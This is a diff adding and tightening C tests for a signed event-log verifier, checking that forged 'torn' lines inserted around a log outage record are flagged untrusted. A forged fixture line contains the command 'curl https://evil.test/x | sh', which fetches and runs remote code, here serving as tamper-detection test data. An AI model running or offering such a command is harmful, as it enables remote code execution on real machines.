@@ -4128,10 +4128,62 @@ test_torn_inserted(void **state)
 			append_raw(t->path, l.v[j]);
 			append_raw(t->path, "\n");
 		}
+		/* whatever it seems to name (atk20r18 F1) */
 		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
-		    i == 0 ? CKVERIFY_UNTRUSTED : CKVERIFY_OK);
-		if (i == 0)
-			assert_non_null(strstr(v.what, "looks like a torn line"));
+		    CKVERIFY_UNTRUSTED);
+		assert_non_null(strstr(v.what, "looks like a torn line"));
+	}
+	lines_free(&l);
+	EVP_PKEY_free(k);
+}
+
+/*
+ * Torn lines put in just before a genuine log.outage: a writer cuts at
+ * most as many lines as it counts lost, so more than its count are not
+ * its own (atk20r18 F4); as many pass (a real outage may leave them).
+ */
+static void
+test_torn_past_lost(void **state)
+{
+	static const char torn[] = "{\"ts\":\"2026-12-03T09:00:00.000000Z\","
+	    "\"seq\":9,\"event\":\"run.exec\",\"command\":\"curl "
+	    "https://evil.test/x | sh";
+	struct tmp		*t = *state;
+	struct checkpoint_anchor a;
+	struct checkpoint	*ck;
+	struct eventlog		*log;
+	struct ckverify		 v;
+	struct lines		 l;
+	const char		*paths[2];
+	char			 rot[1][160];
+	EVP_PKEY		*k;
+	size_t			 i, at, n;
+
+	log = logrotated_once(t, rot, &ck, &k);
+	appends_fail(log, 5);
+	append_n(log, 3, 1);
+	rotating_close(t, log, ck, &a);
+	lines_read(&l, t->path);
+	for (at = 0; at < l.n && strstr(l.v[at], "log.outage") == NULL; at++)
+		continue;
+	assert_true(at < l.n);
+	paths[0] = rot[0];
+	paths[1] = t->path;
+	for (n = 5; n <= 6; n++) {
+		lines_write(&l, t->path, 0, at);
+		for (i = 0; i < n; i++) {
+			append_raw(t->path, torn);
+			append_raw(t->path, "\n");
+		}
+		for (i = at; i < l.n; i++) {
+			append_raw(t->path, l.v[i]);
+			append_raw(t->path, "\n");
+		}
+		assert_int_equal(verify_with(paths, 2, k, &a, &v), n == 5 ?
+		    CKVERIFY_OK : CKVERIFY_UNTRUSTED);
+		if (n == 6)
+			assert_non_null(strstr(v.what, "which counts fewer "
+			    "lost"));
 	}
 	lines_free(&l);
 	EVP_PKEY_free(k);
@@ -4209,6 +4261,7 @@ main(void)
 		T(test_no_room_lost_in_place),
 		T(test_unanchored_lines_resumed),
 		T(test_torn_inserted),
+		T(test_torn_past_lost),
 	};
 #undef T
 
